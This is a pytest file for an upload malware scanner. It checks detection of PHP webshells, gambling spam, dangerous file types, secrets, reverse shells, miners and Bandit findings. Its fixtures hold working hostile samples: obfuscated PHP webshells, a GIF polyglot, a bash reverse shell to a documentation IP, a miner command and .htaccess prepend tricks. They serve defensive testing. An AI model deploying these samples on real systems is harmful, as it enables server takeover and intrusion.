@@ -1,0 +1,241 @@
+"""The engines one by one: what each finds, and what it leaves alone."""
+from __future__ import annotations
+
+import base64
+import os
+import time
+import zlib
+from pathlib import Path
+
+import pytest
+
+from scanners.engines import ENGINES
+from scanners.engines.bandit import BanditEngine
+from scanners.engines.base import FileEngine, content_kind
+from scanners.engines.phpcode import Taint, normalize, strip_comments
+from scanners.findings import Finding, Severity, Verdict
+from scanners.intake import FileEntry, Tree, open_upload
+from scanners.policy import Policy
+from scanners.scan import Scanner
+
+
+def scan_files(scanner: Scanner, tmp_path: Path, files: dict[str, bytes | str]) -> list[Finding]:
+    root = tmp_path / "upload"
+    for name, content in files.items():
+        path = root / name
+        path.parent.mkdir(parents=True, exist_ok=True)
+        path.write_bytes(content.encode() if isinstance(content, str) else content)
+    report = scanner.scan(root)
+    assert report.verdict not in (Verdict.ERROR, Verdict.REJECTED), report.reason
+    return report.findings
+
+
+def verdict_of(policy: Policy, findings: list[Finding], path: str) -> Verdict:
+    return policy.decide(f for f in findings if f.path == path)
+
+
+def test_registry_holds_every_engine() -> None:
+    assert {"clamav", "bandit", "php", "judol", "filetypes", "secrets", "scripts"} <= set(ENGINES)
+    for engine in ENGINES.values():
+        assert engine.name and callable(engine.scan)
+
+
+# -- PHP -------------------------------------------------------------------------------------------
+
+PAYLOAD = "if(isset($_POST['c'])){system($_POST['c']);}"
+
+
+@pytest.mark.parametrize("source", [
+    "<?php @eval($_POST['x']);",
+    "<?php $c = $_REQUEST['c']; $d = trim($c); exec($d);",
+    "<?php $f = 'sys' . 'tem'; $f($_GET['c']);",
+    "<?php $f = chr(115).chr(121).chr(115).chr(116).chr(101).chr(109); $f($_GET['x']);",
+    '<?php $f = "\\x73\\x79\\x73\\x74\\x65\\x6d"; $f($_POST["q"]);',
+    "<?php $f = strrev('metsys'); $f($_GET['c']);",
+    "<?php $f = str_rot13('flfgrz'); $f($_GET['c']);",
+    "<?php $k = str_replace('q', '', 'sqyqsqtqeqm'); $k($_GET['c']);",
+    f"<?php eval(base64_decode('{base64.b64encode(PAYLOAD.encode()).decode()}'));",
+    "<?php @eval(gzinflate(base64_decode('"
+    + base64.b64encode(zlib.compress(PAYLOAD.encode())[2:-4]).decode() + "')));",
+    "<?php $_GET['f']($_GET['c']);",
+    "<?php extract($_REQUEST); @$a($b);",
+    "<?=@`$_GET[c]`?>",
+    "<?php $g = ${'_PO' . 'ST'}; system($g['c']);",
+    "<?php file_put_contents($_GET['n'], $_POST['d']);",
+    "<?php include('php://input');",
+    "<?php $default_action = 'FilesMan'; function wsoEx($in) { return $in; }",
+])
+def test_php_webshells_are_infected(offline_scanner: Scanner, tmp_path: Path, source: str) -> None:
+    findings = scan_files(offline_scanner, tmp_path, {"x.php": source})
+    assert verdict_of(offline_scanner.policy, findings, "x.php") == Verdict.INFECTED, findings
+
+
+@pytest.mark.parametrize("source", [
+    "<?php $pdo->exec('DELETE FROM t'); echo htmlspecialchars($_GET['q'] ?? '');",
+    "<?php $page = $_GET['p'] ?? 'home'; if (in_array($page, ['home'], true)) "
+    "{ include __DIR__ . '/pages/' . $page . '.php'; }",
+    "<?php exec('tar czf ' . escapeshellarg($_POST['name']) . ' data');",
+    "<?php $m = 'action' . ucfirst($_GET['a']); call_user_func([$this, $m]);",
+    "<?php /** Returns `$_POST['action']` for the handler. */ function a() {}",
+    "<?php $img = base64_decode($row['foto']); echo $img;",
+    "<?php $replace = 'preg_replace'; echo $replace('/a/', 'b', $s);",
+])
+def test_honest_php_stays_clean(offline_scanner: Scanner, tmp_path: Path, source: str) -> None:
+    findings = scan_files(offline_scanner, tmp_path, {"x.php": source})
+    assert verdict_of(offline_scanner.policy, findings, "x.php") == Verdict.CLEAN, findings
+
+
+def test_php_finding_points_at_the_offending_line(offline_scanner: Scanner,
+                                                  tmp_path: Path) -> None:
+    source = "<?php\n// helper\n$a = 1;\n\nif (isset($_GET['x'])) { system($_GET['x']); }\n"
+    findings = scan_files(offline_scanner, tmp_path, {"helper.php": source})
+    hit = next(f for f in findings if f.engine == "php")
+    assert hit.line == 5
+    assert hit.snippet is not None and "system($_GET['x'])" in hit.snippet
+
+
+def test_deobfuscation_recovers_names_and_payloads() -> None:
+    code = strip_comments("<?php $a = 'as'/* x */.'sert'; $b = chr(101).chr(118).chr(97).chr(108);")
+    result = normalize(code)
+    assert "'assert'" in result.code and "'eval'" in result.code
+    assert {"assert"} <= result.built_names
+    shell = b"<?php system($_GET['c']); /* " + os.urandom(200).hex().encode() + b" */"
+    blob = base64.b64encode(zlib.compress(shell)[2:-4]).decode()
+    assert any("system" in p.text for p in normalize(f"<?php $x = '{blob}';").payloads)
+
+
+def test_taint_follows_input_through_decoders_but_not_lookups() -> None:
+    taint = Taint("$a = $_GET['x']; $b = base64_decode(trim($a)); $c = $map[$a]; "
+                  "$d = isset($_POST['y']) ? $_POST['y'] : 'id';")
+    assert {"$a", "$b", "$d"} <= taint.variables
+    assert "$c" not in taint.variables
+
+
+# -- judol -----------------------------------------------------------------------------------------
+
+def test_gambling_spam_is_review_and_hidden_links_infected(offline_scanner: Scanner,
+                                                          tmp_path: Path) -> None:
+    page = ("<p>Situs slot gacor hari ini, bocoran rtp slot, togel hongkong, daftar slot88 "
+            "maxwin.</p>")
+    hidden = ('<p>Berita desa</p><div style="display:none"><a href="https://gacor77.xyz/">'
+              "slot gacor</a></div>")
+    findings = scan_files(offline_scanner, tmp_path, {"spam.html": page, "news.html": hidden})
+    policy = offline_scanner.policy
+    assert verdict_of(policy, findings, "spam.html") == Verdict.REVIEW
+    assert verdict_of(policy, findings, "news.html") == Verdict.INFECTED
+
+
+def test_news_about_fighting_gambling_stays_clean(offline_scanner: Scanner,
+                                                  tmp_path: Path) -> None:
+    article = ("<p>Pemkab membentuk satgas pemberantasan judi online. Warga diminta melaporkan "
+               "situs judi slot.</p>")
+    findings = scan_files(offline_scanner, tmp_path, {"berita.html": article})
+    assert verdict_of(offline_scanner.policy, findings, "berita.html") == Verdict.CLEAN
+
+
+def test_search_engine_cloaking_is_infected(offline_scanner: Scanner, tmp_path: Path) -> None:
+    source = ("<?php if (stripos($_SERVER['HTTP_USER_AGENT'], 'googlebot') !== false) "
+              "{ echo file_get_contents('https://spam.example/p.html'); exit; }")
+    findings = scan_files(offline_scanner, tmp_path, {"index.php": source})
+    assert verdict_of(offline_scanner.policy, findings, "index.php") == Verdict.INFECTED
+
+
+# -- file types ------------------------------------------------------------------------------------
+
+@pytest.mark.parametrize("name,content,expected", [
+    ("avatar.php.jpg", "<?php echo 1;", Verdict.REVIEW),
+    ("x.php;.png", "x", Verdict.REVIEW),
+    ("shell.phtml", "<?php echo 1;", Verdict.REVIEW),
+    ("tool.pht", "x", Verdict.REVIEW),
+    ("program", b"\x7fELF\x02\x01\x01" + b"\x00" * 60, Verdict.REVIEW),
+    ("setup.exe", b"MZ" + b"\x00" * 58 + b"\x40\x00\x00\x00" + b"PE\x00\x00" + b"\x00" * 40,
+     Verdict.REVIEW),
+    ("pixel.gif", b"GIF89a\x01\x00<?php system($_GET['c']); ?>", Verdict.INFECTED),
+    (".htaccess", "AddType application/x-httpd-php .jpg .png", Verdict.REVIEW),
+    (".htaccess", 'php_value auto_prepend_file "/tmp/x.jpg"', Verdict.REVIEW),
+    (".user.ini", "auto_prepend_file = /tmp/.x", Verdict.REVIEW),
+    (".htaccess", "AddHandler application/x-httpd-ea-php74 .php .php7", Verdict.CLEAN),
+    ("config.php.dist", "<?php return [];", Verdict.CLEAN),
+    ("logo.png", b"\x89PNG\r\n\x1a\n" + b"\x00" * 64, Verdict.CLEAN),
+])
+def test_dangerous_file_types(offline_scanner: Scanner, tmp_path: Path, name: str,
+                              content: bytes | str, expected: Verdict) -> None:
+    findings = scan_files(offline_scanner, tmp_path, {name: content})
+    assert verdict_of(offline_scanner.policy, findings, name) == expected, findings
+
+
+# -- secrets ---------------------------------------------------------------------------------------
+
+def test_secrets_are_review(offline_scanner: Scanner, tmp_path: Path) -> None:
+    key = "-----BEGIN RSA PRIVATE KEY-----\n" + "A" * 64 + "\n-----END RSA PRIVATE KEY-----\n"
+    findings = scan_files(offline_scanner, tmp_path, {
+        "deploy/key.pem": key,
+        "app/.env": "APP_KEY=base64:abc\nDB_PASSWORD=Rahasia123\n",
+        "app/.env.example": "DB_PASSWORD=\n",
+        "db/backup.sql": "-- MySQL dump 10.13\nCREATE TABLE t (id int);\n",
+        "conf/s3.php": "<?php $k = 'AKIAIOSFODNN7EXAMPLE';",
+    })
+    policy = offline_scanner.policy
+    for path in ("deploy/key.pem", "app/.env", "db/backup.sql", "conf/s3.php"):
+        assert verdict_of(policy, findings, path) == Verdict.REVIEW, path
+    assert verdict_of(policy, findings, "app/.env.example") == Verdict.CLEAN
+
+
+# -- scripts and bandit ----------------------------------------------------------------------------
+
+def test_reverse_shells_and_miners_are_infected(offline_scanner: Scanner, tmp_path: Path) -> None:
+    findings = scan_files(offline_scanner, tmp_path, {
+        "run.sh": "#!/bin/sh\nbash -i >& /dev/tcp/203.0.113.5/4444 0>&1\n",
+        "m.sh": "./x -o stratum+tcp://pool.example.com:3333 -u abc\n",
+    })
+    assert verdict_of(offline_scanner.policy, findings, "run.sh") == Verdict.INFECTED
+    assert verdict_of(offline_scanner.policy, findings, "m.sh") == Verdict.INFECTED
+
+
+def test_bandit_reports_python_issues(offline_scanner: Scanner, tmp_path: Path) -> None:
+    findings = scan_files(offline_scanner, tmp_path, {
+        "app/views.py": "import subprocess\n\ndef run(q):\n"
+                        "    return subprocess.check_output('grep ' + q, shell=True)\n",
+        "app/ok.py": "def add(a, b):\n    return a + b\n",
+    })
+    hits = [f for f in findings if f.engine == "bandit" and f.path == "app/views.py"]
+    assert any(f.rule == "B602" and f.severity == Severity.HIGH and f.line == 4 for f in hits)
+    assert verdict_of(offline_scanner.policy, findings, "app/ok.py") == Verdict.CLEAN
+
+
+def test_bandit_cannot_hang_the_scan(tmp_path: Path) -> None:
+    stuck = tmp_path / "stuck-python"
+    stuck.write_text("#!/bin/sh\nsleep 30\n")
+    stuck.chmod(0o755)
+    for name in ("a.py", "b.py"):
+        (tmp_path / name).write_text("x = 1\n")
+    (tmp_path / "huge.py").write_text("x = '" + "a" * 2048 + "'\n")
+    tree = Tree(str(tmp_path), [
+        FileEntry(name, str(tmp_path / name), (tmp_path / name).stat().st_size)
+        for name in ("a.py", "b.py", "huge.py")
+    ])
+    engine = BanditEngine(max_file_bytes=1024, timeout_seconds=0.5, python=str(stuck))
+    started = time.monotonic()
+    findings = engine.scan(tree)
+    assert time.monotonic() - started < 10
+    assert {(f.path, f.rule) for f in findings} == {
+        ("a.py", "bandit_timeout"), ("b.py", "bandit_timeout"), ("huge.py", "bandit_skipped_large")}
+
+
+# -- shared plumbing -------------------------------------------------------------------------------
+
+def test_file_engines_work_alone_on_a_tree(tmp_path: Path) -> None:
+    (tmp_path / "up").mkdir()
+    (tmp_path / "up" / "x.php").write_text("<?php system($_GET['c']);")
+    php = ENGINES["php"]()
+    assert isinstance(php, FileEngine)
+    with open_upload(tmp_path / "up") as tree:
+        findings = php.scan(tree)
+    assert any(f.severity == Severity.CRITICAL for f in findings)
+
+
+def test_content_kind_reads_php_inside_other_files() -> None:
+    entry = FileEntry("favicon.ico", "/dev/null", 10)
+    assert content_kind(entry, b"<?php eval($x);") == "php"
+    assert content_kind(FileEntry("README.md", "/dev/null", 10), b"# x\n<?php x();") == "text"
+    assert content_kind(FileEntry("a.png", "/dev/null", 10), b"\x89PNG\r\n") == "binary"
